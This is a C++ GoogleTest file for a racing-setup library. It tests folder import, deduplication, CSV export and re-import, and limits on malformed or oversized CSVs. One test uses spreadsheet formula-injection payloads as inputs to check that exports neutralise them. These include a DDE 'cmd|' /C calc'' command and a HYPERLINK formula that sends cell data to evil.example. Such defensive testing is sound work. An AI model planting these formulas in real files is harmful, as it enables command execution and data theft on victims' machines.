// Import from folders and files through readers, and the CSV export.

#include <gtest/gtest.h>

#include "LibraryTestSupport.h"
#include "library/SetupCsv.h"
#include "library/SetupImport.h"
#include "platform/Error.h"
#include "platform/Text.h"

using namespace librarytest;
using namespace vantrel::library;

namespace {

// A sheet reader as the caller supplies one: "sheet" files hold their values
// one a line; "broken" ones cannot be read.
class FakeSheetReader : public SetupFileReader {
public:
    bool claims(const std::filesystem::path& file) const override { return file.extension() == ".pdf"; }
    std::optional<SetupEntry> read(const std::filesystem::path& file) const override {
        const std::string bytes = testsupport::TempProgramFolder::readFile(file);
        if (bytes.rfind("broken", 0) == 0)
            platform::raise(platform::ErrPathAccess, "Fake", "Cannot read " + file.string());
        if (bytes.rfind("sheet\n", 0) != 0) return std::nullopt;
        SetupEntry e;
        e.setupType = "RDX";
        e.sheet = file.string();
        e.created = "2026-02-03T04:05:06+01:00";
        e.values[0] = bytes.substr(6);
        return e;
    }
};

std::vector<std::string> names(const std::vector<ImportProblem>& problems) {
    std::vector<std::string> out;
    for (const auto& p : problems) out.push_back(p.file);
    return out;
}

// Every setup a CSV hands on, with the count of the rows that hold none.
struct ReadBack {
    std::vector<CsvSetup> setups;
    CsvRead read;
};
std::optional<ReadBack> readAll(std::string_view text, std::string& whyNot) {
    ReadBack back;
    const auto read = readCsv(
        text,
        [&](CsvSetup& s) {
            back.setups.push_back(s);
            return true;
        },
        whyNot);
    if (!read) return std::nullopt;
    back.read = *read;
    return back;
}

// RFC 4180 read strictly: every record ends in CR LF, quotes only around a
// whole field, a quote inside one doubled.
std::vector<std::vector<std::string>> parseCsv(const std::string& text) {
    std::vector<std::vector<std::string>> rows(1, std::vector<std::string>(1));
    std::size_t i = 0;
    bool fieldStart = true;
    while (i < text.size()) {
        const char c = text[i];
        if (fieldStart && c == '"') {
            ++i;
            for (;;) {
                if (i >= text.size()) throw std::runtime_error("unterminated quoted field");
                if (text[i] == '"') {
                    if (i + 1 < text.size() && text[i + 1] == '"') {
                        rows.back().back() += '"';
                        i += 2;
                        continue;
                    }
                    ++i;
                    break;
                }
                rows.back().back() += text[i++];
            }
            fieldStart = false;
        } else if (c == ',') {
            rows.back().emplace_back();
            fieldStart = true;
            ++i;
        } else if (c == '\r' && i + 1 < text.size() && text[i + 1] == '\n') {
            rows.emplace_back(1);
            fieldStart = true;
            i += 2;
        } else {
            if (c == '"' || c == '\r' || c == '\n')
                throw std::runtime_error("bare quote or line break at " + std::to_string(i));
            rows.back().back() += c;
            fieldStart = false;
            ++i;
        }
    }
    if (rows.back() != std::vector<std::string>(1)) throw std::runtime_error("last record without CR LF");
    rows.pop_back();
    return rows;
}

}  // namespace

TEST(SetupImport, ReportsWhatWasAddedWhatWasThereAndWhatIsNotASetup) {
    testsupport::TempProgramFolder folder;
    std::mt19937 rng(21);
    const vantrel::Setup a = makeValues(rng, profileValue), b = makeValues(rng, profileValue),
                         c = makeValues(rng, profileValue);
    const auto fileA = folder.write("in/a.dat", rawDataFile(a));
    const auto fileB = folder.write("in/sub/deeper/b.DAT", rawDataFile(b));
    const auto copyOfA = folder.write("in/sub/c.ini", "[Other]\r\nx=1\r\n" + rawDataFile(a));
    const auto notes = folder.write("in/notes.txt", "[Notes]\r\nDriverName=x\r\n");
    folder.write("in/photo.jpg", "\xFF\xD8 not looked at");
    const auto sheet = folder.write("in/sheet.pdf", "sheet\nJürgen");
    const auto broken = folder.write("in/broken.pdf", "broken");
    const auto named = folder.write("elsewhere/setup.bak", rawDataFile(c));  // named, so taken whatever its name
    const std::string missing = (folder.path() / "gone").string();

    SetupLibrary library((folder.path() / "Library.sqlite").string());
    const RawDataTestReader raw;
    const FakeSheetReader sheets;
    std::vector<ImportProgress> seen;
    const auto report =
        importSetups(library, {(folder.path() / "in").string(), fileA.string(), named.string(), missing},
                     {&raw, &sheets}, [&](const ImportProgress& p) {
                         seen.push_back(p);
                         return true;
                     });
    EXPECT_EQ(report.added, (std::vector<std::string>{named.string(), fileA.string(), sheet.string(), fileB.string()}));
    EXPECT_EQ(report.alreadyThere, std::vector<std::string>{copyOfA.string()});
    EXPECT_EQ(names(report.notSetups), std::vector<std::string>{notes.string()});
    EXPECT_EQ(names(report.unreadable), (std::vector<std::string>{missing, broken.string()}));
    EXPECT_FALSE(report.cancelled);
    EXPECT_TRUE(report.libraryError.empty());
    ASSERT_EQ(seen.size(), 8u);
    EXPECT_EQ(seen.back().done, seen.back().total);

    EXPECT_TRUE(library.findSame("RDX", a));
    EXPECT_TRUE(library.findSame("RDX", b));
    const auto rows = library.summaries("jurgen");
    ASSERT_EQ(rows.size(), 1u);
    EXPECT_EQ(rows[0].sheet, sheet.string());
    EXPECT_EQ(rows[0].created, "2026-02-03T04:05:06+01:00");
    EXPECT_TRUE(parseTimestamp(library.setup(*library.findSame("RDX", a))->created));  // the file's time

    const auto again = importSetups(library, {(folder.path() / "in").string(), named.string()}, {&raw, &sheets});
    EXPECT_TRUE(again.added.empty());
    EXPECT_EQ(again.alreadyThere.size(), 5u);
    EXPECT_EQ(library.count(), 4u);
}

// A sheet read again is the same sheet: its edits correct the setup recorded
// from it (here or moved elsewhere), and a sheet built anew moves its setup.
TEST(SetupLibrary, ASheetReadAgainCorrectsItsSetupAndARebuildMovesIt) {
    testsupport::TempProgramFolder folder;
    SetupLibrary library((folder.path() / "Library.sqlite").string());
    std::mt19937 rng(29);
    SetupEntry built = makeEntry(rng);
    built.sheet = "/sheets/Sam_SetupSheet_RDX_2026-05-03_090000.00.pdf";
    const std::int64_t id = library.record(built);
    auto edited = [&](std::string sheet, const char* finish) {
        SetupEntry e = built;
        e.sheet = std::move(sheet);
        e.values[std::size_t(vantrel::SetupField::ResultsFinishPos)] = finish;
        return e;
    };
    using O = SetupLibrary::Outcome;
    struct Case {
        const char* what;
        SetupEntry entry;
        O outcome;
        bool same;  // the setup recorded from the sheet
    };
    SetupEntry rawData = edited("", "9th");
    const Case cases[] = {
        {"the sheet unchanged", built, O::AlreadyThere, true},
        {"edited in a reader", edited(built.sheet, "2nd"), O::Updated, true},
        {"moved and edited again", edited("/stick/Sam_SetupSheet_RDX_2026-05-03_090000.00.pdf", "1st"), O::Updated,
         true},
        {"another sheet", edited("/sheets/Sam_SetupSheet_RDX_2026-05-03_090000.00-2.pdf", "3rd"), O::Added, false},
        {"a raw data file", rawData, O::Added, false},
    };
    std::size_t count = library.count();
    for (const Case& c : cases) {
        SCOPED_TRACE(c.what);
        const SetupLibrary::Recorded r = library.recordImported(c.entry);
        EXPECT_EQ(r.outcome, c.outcome);
        EXPECT_EQ(r.id == id, c.same);
        if (c.outcome == O::Added) ++count;
        EXPECT_EQ(library.count(), count);
        EXPECT_EQ(library.setup(r.id)->values, c.entry.values);
        EXPECT_EQ(library.findSame(c.entry.setupType, c.entry.values), r.id);
    }
    EXPECT_EQ(library.setup(id)->sheet, "/stick/Sam_SetupSheet_RDX_2026-05-03_090000.00.pdf");
    EXPECT_TRUE(library.setSheet(id, "/rebuilt/Sam_SetupSheet_RDX_2026-12-08_101500.00.pdf"));
    EXPECT_EQ(library.setup(id)->sheet, "/rebuilt/Sam_SetupSheet_RDX_2026-12-08_101500.00.pdf");
    EXPECT_EQ(library.count(), count);
    EXPECT_FALSE(library.setSheet(id + 100, "/nowhere.pdf"));
}

TEST(SetupImport, CancelStopsAfterTheFileInHandKeepingWhatWasDone) {
    testsupport::TempProgramFolder folder;
    std::mt19937 rng(4);
    for (int i = 0; i < 6; ++i)
        folder.write("in/" + std::to_string(i) + ".dat", rawDataFile(makeValues(rng, profileValue)));
    SetupLibrary library((folder.path() / "Library.sqlite").string());
    const RawDataTestReader raw;
    const auto report = importSetups(library, {(folder.path() / "in").string()}, {&raw},
                                     [](const ImportProgress& p) { return p.done < 2; });
    EXPECT_TRUE(report.cancelled);
    EXPECT_EQ(report.added.size(), 2u);
    EXPECT_EQ(library.count(), 2u);
}

TEST(SetupCsv, ExportsEverySetupExactlyAsRfc4180) {
    testsupport::TempProgramFolder folder;
    std::mt19937 rng(9);
    SetupLibrary library((folder.path() / "Library.sqlite").string());
    std::vector<SetupEntry> entries;
    for (int i = 0; i < 25; ++i) {
        char created[32];
        std::snprintf(created, sizeof created, "2026-04-%02dT12:00:00+02:00", i + 1);
        SetupEntry e = makeEntry(rng, created);
        e.sheet = i % 3 ? "/sheets/\"odd\", name.pdf" : "";
        if (i == 4) e.values[10] = "caf\xE9";  // not UTF-8: read as Windows-1252
        library.record(e);
        entries.push_back(e);
    }
    const auto out = folder.write("out/setups.csv", "old content");
    exportCsv(library, out.string());

    const auto rows = parseCsv(testsupport::TempProgramFolder::readFile(out));
    ASSERT_EQ(rows.size(), entries.size() + 1);
    std::vector<std::string> header = {"Created", "SetupType", "Sheet"};
    for (const auto key : SetupFieldKeys) header.emplace_back(key);
    header.emplace_back("TextMark");
    EXPECT_EQ(rows[0], header);
    for (std::size_t i = 0; i < entries.size(); ++i) {
        std::vector<std::string> expected = {entries[i].created, entries[i].setupType, entries[i].sheet};
        for (const auto& v : entries[i].values) expected.push_back(platform::text::decode8Bit(v));
        expected.emplace_back();
        EXPECT_EQ(rows[i + 1], expected) << i;
        for (const auto& field : rows[i + 1]) EXPECT_TRUE(platform::text::isValidUtf8(field));
    }

    const std::string unwritable = (folder.path() / "no-such-folder" / "x.csv").string();
    try {
        exportCsv(library, unwritable);
        ADD_FAILURE() << "wrote into a missing folder";
    } catch (const platform::Error& e) {
        EXPECT_NE(std::string(e.description()).find(unwritable), std::string::npos) << e.description();
    }
}

TEST(SetupCsv, AnExportComesBackWholeIntoAnotherLibrary) {
    testsupport::TempProgramFolder folder;
    std::mt19937 rng(33);
    SetupLibrary library((folder.path() / "Library.sqlite").string());
    for (int i = 0; i < 40; ++i) {
        char created[32];
        std::snprintf(created, sizeof created, "2026-%02d-%02dT%02d:30:00+02:00", 1 + i % 12, 1 + i % 28, i % 24);
        SetupEntry e = makeEntry(rng, created);
        e.setupType = i % 5 ? "RDX" : "Club Form";
        library.record(e);
    }
    const auto csv = folder.path() / "laptop" / "export.csv";
    std::filesystem::create_directories(csv.parent_path());
    exportCsv(library, csv.string());

    // The new laptop's library takes every setup, times, types and sheets as they were.
    SetupLibrary laptop((folder.path() / "Laptop.sqlite").string());
    const auto report = importSetups(laptop, {csv.string()}, {});
    EXPECT_TRUE(report.notSetups.empty() && report.unreadable.empty()) << names(report.notSetups).size();
    ASSERT_EQ(report.added.size(), 40u);
    EXPECT_EQ(report.added.front(), csv.string() + " (row 2)");
    std::vector<StoredSetup> before, after;
    library.forEachSetup([&](const StoredSetup& s) { before.push_back(s); });
    laptop.forEachSetup([&](const StoredSetup& s) { after.push_back(s); });
    ASSERT_EQ(after.size(), before.size());
    for (std::size_t i = 0; i < before.size(); ++i) {
        EXPECT_EQ(after[i].created, before[i].created) << i;
        EXPECT_EQ(after[i].setupType, before[i].setupType) << i;
        EXPECT_EQ(after[i].sheet, before[i].sheet) << i;
        EXPECT_EQ(after[i].values, before[i].values) << i;
    }
    // Taken again, nothing doubles; found in a folder, the CSV counts too.
    const auto again = importSetups(laptop, {csv.parent_path().string()}, {});
    EXPECT_EQ(again.alreadyThere.size(), 40u);
    EXPECT_EQ(laptop.count(), 40u);
}

TEST(SetupCsv, ASeasonEditedInASpreadsheetComesBackOrSaysWhyNot) {
    std::string keys, row;
    for (const auto key : SetupFieldKeys) keys += ";" + std::string(key);
    for (std::size_t i = 0; i < SetupFieldCount; ++i) row += ";v" + std::to_string(i);
    const struct {
        const char* name;
        std::string text;
        std::size_t setups;      // read, when it is a setup CSV
        const char* firstValue;  // the first row's DriverName
        const char* whyNot;      // part of the reason, when it is none
        std::size_t withoutSetup = 0;
    } cases[] = {
        {"semicolons, LF, unquoted, a byte order mark",
         "\xEF\xBB\xBFSetupType" + keys + "\nRDX" + row + "\n\nRDX" + row, 2, "v0", ""},
        {"Windows-1252 text, CR LF", "SetupType" + keys + "\r\nRDX;Caf\xE9" + row.substr(3) + "\r\n", 1, "Café", ""},
        {"columns in another order, one of someone else's",
         "Notes,Lap Times,SetupType" +
             [&] {
                 std::string k;
                 for (const auto key : SetupFieldKeys)
                     if (key != "Notes") k += "," + std::string(key);
                 return k;
             }() +
             "\r\n\"say \"\"hi\"\"\",\"1:02.3\",RDX,\"Åsa, Lind\"\r\n",
         1, "Åsa, Lind", ""},
        {"a row without setup type", "SetupType" + keys + "\n" + row + "\nRDX" + row, 1, "v0", "", 1},
        {"a key missing", "SetupType;DriverName\nRDX;x\n", 0, "", "no column TrackCity"},
        {"no setup type", keys.substr(1) + "\n" + row.substr(1) + "\n", 0, "", "no column SetupType"},
        {"a quote never closed", "SetupType" + keys + "\nRDX;\"open" + row, 0, "", "never closed"},
        {"empty", "", 0, "", "empty"},
    };
    for (const auto& c : cases) {
        std::string whyNot;
        const auto back = readAll(c.text, whyNot);
        if (*c.whyNot) {
            EXPECT_FALSE(back) << c.name;
            EXPECT_NE(whyNot.find(c.whyNot), std::string::npos) << c.name << ": " << whyNot;
            continue;
        }
        ASSERT_TRUE(back) << c.name << ": " << whyNot;
        ASSERT_EQ(back->setups.size(), c.setups) << c.name;
        const CsvSetup& first = back->setups.front();
        EXPECT_EQ(first.entry.values[std::size_t(vantrel::SetupField::DriverName)], c.firstValue) << c.name;
        EXPECT_TRUE(first.entry.created.empty()) << c.name;  // the importer gives the file's time
        EXPECT_EQ(back->read.withoutSetup, c.withoutSetup) << c.name;
        if (c.withoutSetup) EXPECT_EQ(back->read.firstWithoutSetup, 2u) << c.name;
    }
    // Rows count as a spreadsheet counts them, blank lines and broken ones too.
    std::string whyNot;
    const auto counted =
        readAll("SetupType" + keys + "\n\nRDX" + row + "\nRDX;\"two\nlines\"" + row.substr(3) + "\nRDX" + row, whyNot);
    ASSERT_TRUE(counted);
    std::vector<std::size_t> rows;
    for (const auto& s : counted->setups) rows.push_back(s.row);
    EXPECT_EQ(rows, (std::vector<std::size_t>{3, 4, 6}));
    EXPECT_EQ(counted->setups.at(1).entry.values[0], "two\nlines");
}

TEST(SetupCsv, TextThatASpreadsheetWouldRunIsWrittenAsTextAndComesBackExactly) {
    // How a cell stands in the file: marked where a spreadsheet would start a formula.
    const struct {
        const char* value;
        const char* cell;
    } cells[] = {
        {"=1+2", "\"'=1+2\""},
        {"@SUM(1+1)", "\"'@SUM(1+1)\""},
        {"+1+cmd|' /C calc'!A0", "\"'+1+cmd|' /C calc'!A0\""},
        {"-1+2", "\"'-1+2\""},
        {"\t=1", "\"'\t=1\""},
        {"\r\n=1", "\"'\r\n=1\""},
        {"'", "\"''\""},
        {"'=1", "\"''=1\""},
        {"-", "\"'-\""},
        {"-2.0", "\"-2.0\""},
        {"+1", "\"+1\""},
        {"-.5e-3", "\"-.5e-3\""},
        {"-1e", "\"'-1e\""},
        {"a=b", "\"a=b\""},
        {" =1", "\" =1\""},
    };
    for (const auto& c : cells) EXPECT_EQ(csvField(c.value), c.cell) << c.value;

    // Generated values of the same kinds, through a library and back: every one exactly.
    testsupport::TempProgramFolder folder;
    std::mt19937 rng(38);
    static const char* const kHeads[] = {"", "=", "+", "-", "@", "\t", "\r", "\n", "'", "''", "'=", " ", "\"", "-2"};
    static const char* const kBodies[] = {"1+2",      "HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
                                          "2.0",      "",
                                          "SUM(1+1)", "cmd|' /C calc'!A0",
                                          "5e3",      ".5",
                                          "Zürich",   ",;\r\n"};
    auto hostile = [&](std::mt19937& r) {
        std::uniform_int_distribution<std::size_t> head(0, std::size(kHeads) - 1), body(0, std::size(kBodies) - 1);
        return std::string(kHeads[head(r)]) + kBodies[body(r)];
    };
    SetupLibrary library((folder.path() / "Library.sqlite").string());
    for (int i = 0; i < 200; ++i) {
        SetupEntry e = makeEntry(rng);
        e.values = makeValues(rng, hostile);
        e.setupType = "=" + hostile(rng);
        e.sheet = i % 2 ? hostile(rng) + std::to_string(i) : "";  // one sheet is one setup
        library.record(e);
    }
    const auto csv = folder.path() / "Library.csv";
    exportCsv(library, csv.string());
    const auto rows = parseCsv(testsupport::TempProgramFolder::readFile(csv));
    for (std::size_t r = 1; r < rows.size(); ++r)
        for (const std::string& cell : rows[r]) {
            if (cell.empty()) continue;
            EXPECT_EQ(std::string("=@\t\r\n").find(cell.front()), std::string::npos) << r << ": " << cell;
            if (cell.front() == '+' || cell.front() == '-')
                EXPECT_NE(cell.find_first_of("0123456789"), std::string::npos) << r << ": " << cell;
        }

    SetupLibrary other((folder.path() / "Other.sqlite").string());
    const ImportReport report = importSetups(other, {csv.string()}, {});
    EXPECT_TRUE(report.unreadable.empty() && report.notSetups.empty());
    std::vector<StoredSetup> before, after;
    library.forEachSetup([&](const StoredSetup& s) { before.push_back(s); });
    other.forEachSetup([&](const StoredSetup& s) { after.push_back(s); });
    ASSERT_EQ(after.size(), before.size());
    for (std::size_t i = 0; i < before.size(); ++i) {
        EXPECT_EQ(after[i].setupType, before[i].setupType) << i;
        EXPECT_EQ(after[i].sheet, before[i].sheet) << i;
        EXPECT_EQ(after[i].values, before[i].values) << i;
    }
}

TEST(SetupCsv, AnExportMadeBeforeTheMarkImportsAsItStands) {
    std::string header = "\"Created\",\"SetupType\",\"Sheet\"", row = "\"2026-05-01T10:00:00+02:00\",\"RDX\",\"\"";
    for (std::size_t i = 0; i < SetupFieldCount; ++i) {
        header += ",\"" + std::string(SetupFieldKeys[i]) + "\"";
        row += i == 0 ? ",\"'quoted\"" : i == 1 ? ",\"''twice\"" : i == 2 ? ",\"'=1+2\"" : ",\"=3\"";
    }
    std::string whyNot;
    const auto back = readAll(header + "\r\n" + row + "\r\n", whyNot);
    ASSERT_TRUE(back) << whyNot;
    ASSERT_EQ(back->setups.size(), 1u);
    const vantrel::Setup& v = back->setups.front().entry.values;
    EXPECT_EQ(v[0], "'quoted");
    EXPECT_EQ(v[1], "''twice");
    EXPECT_EQ(v[2], "'=1+2");
    EXPECT_EQ(v[3], "=3");
}

TEST(SetupImport, ACsvOfNothingCostsOneLineAndAWideOrOpenOneIsRefusedWhole) {
    std::string header = "Created,SetupType", row = ",RDX";
    for (const auto key : SetupFieldKeys) header += "," + std::string(key);
    for (std::size_t i = 0; i < SetupFieldCount; ++i) row += ",v" + std::to_string(i);
    std::string rowsOfNothing = header + "\r\n";
    for (int i = 0; i < 100000; ++i) rowsOfNothing += "R\r\n";
    const struct {
        const char* name;
        std::string text;
        std::size_t added;
        const char* problem;  // part of the one line the report gives
        bool refused;         // the file said to be no setup CSV
    } cases[] = {
        {"a hundred thousand rows of nothing", rowsOfNothing + row + "\r\n", 1,
         "100,000 rows hold no setup (they name no SetupType; the first is row 2)", false},
        {"one row of nothing", header + "\n" + row + "\nx,,y\n", 1, "row 3 holds no setup", false},
        {"a row of 1,001 columns", header + "\n" + row + "\n" + std::string(1000, ',') + "\n", 0,
         "row 3 has more than 1,000 columns", true},
        {"a header of a million columns", header + std::string(1 << 20, ',') + "\n" + row + "\n", 0,
         "row 1 has more than 1,000 columns", true},
        {"a field of 65 KiB", header + "\n" + row + "\n,RDX," + std::string(65 * 1024, 'x') + "\n", 0,
         "row 3 holds a field longer than 64 KiB", true},
        {"a quote never closed", header + "\n" + row + "\n,RDX,\"" + std::string(1000, 'x'), 0,
         "begins in row 3 is never closed", true},
        {"a quote open through a large file", header + "\n" + row + "\n,RDX,\"" + std::string(100000, '\n'), 0,
         "row 3 holds a quoted field longer than 64 KiB (is its closing quote missing?)", true},
    };
    for (const auto& c : cases) {
        testsupport::TempProgramFolder folder;
        SetupLibrary library((folder.path() / "Library.sqlite").string());
        const auto csv = folder.write("hostile.csv", c.text);
        const ImportReport report = importSetups(library, {csv.string()}, {});
        EXPECT_EQ(report.added.size(), c.added) << c.name;
        EXPECT_EQ(library.count(), c.added) << c.name;
        const auto& problems = c.refused ? report.notSetups : report.unreadable;
        ASSERT_EQ(problems.size(), 1u) << c.name;
        EXPECT_EQ(report.notSetups.size() + report.unreadable.size(), 1u) << c.name;
        EXPECT_EQ(problems.front().file, csv.string()) << c.name;
        EXPECT_NE(problems.front().reason.find(c.problem), std::string::npos)
            << c.name << ": " << problems.front().reason;
    }
}
